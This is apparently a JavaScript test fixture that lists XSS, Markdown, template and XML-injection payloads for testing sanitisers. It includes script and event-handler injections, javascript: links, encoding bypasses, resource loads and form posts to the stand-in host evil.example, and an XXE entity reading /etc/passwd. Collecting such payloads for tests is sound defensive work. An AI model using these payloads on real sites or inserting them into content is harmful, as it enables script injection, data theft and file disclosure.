// Texts that try to become code: for HTML, attributes, addresses, Markdown, JSON in HTML, XML and templates.
//
// Every one that would act calls alert, or leaves for evil.example; the tests look for either.

import { readFileSync } from "node:fs";

const OWN = String.raw`
<svg onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="https://evil.example/x.swf">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="https://evil.example/x">
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url(https://evil.example/)}</style>
<form action="https://evil.example/"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<marquee onstart=alert(1)>x</marquee>
<dialog open onclose=alert(1)>x</dialog>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
</template><img src=x onerror=alert(1)><template>
<althing-thread site="x" url="https://evil.example/"></althing-thread>
<isindex action=javascript:alert(1) type=submit value=x>
<plaintext><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<title><img src=x onerror=alert(1)></title>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
" style="background:url(https://evil.example/)
x" accesskey="x" onclick="alert(1)" "
{"@type":"x"}</script><img src=x onerror=alert(1)>
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example "title" onclick=alert(1)")
![x](https://evil.example/pixel.png)
![x" onerror="alert(1)](https://evil.example/x)
<javascript:alert(1)>
[<img src=x onerror=alert(1)>](https://a.example)
[x]: javascript:alert(1)
||<img src=x onerror=alert(1)>||
~~~html"><script>alert(1)</script>
**<script>alert(1)</script>**
https://a.example/<script>alert(1)</script>
https://a.example/?"><svg/onload=alert(1)>
{{constructor.constructor('alert(1)')()}}
${"$"}{alert(1)}
<%= alert(1) %>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
`;

const lines = (text) => text.split("\n").filter((line) => line.trim());
const corpus = readFileSync(new URL("../../fixtures/text/xss.txt", import.meta.url), "utf8");

/** All payloads, one a line. */
export const PAYLOADS = [...new Set([...lines(OWN), ...lines(corpus)])];
/** Ours alone. */
export const OWN_COUNT = lines(OWN).length;
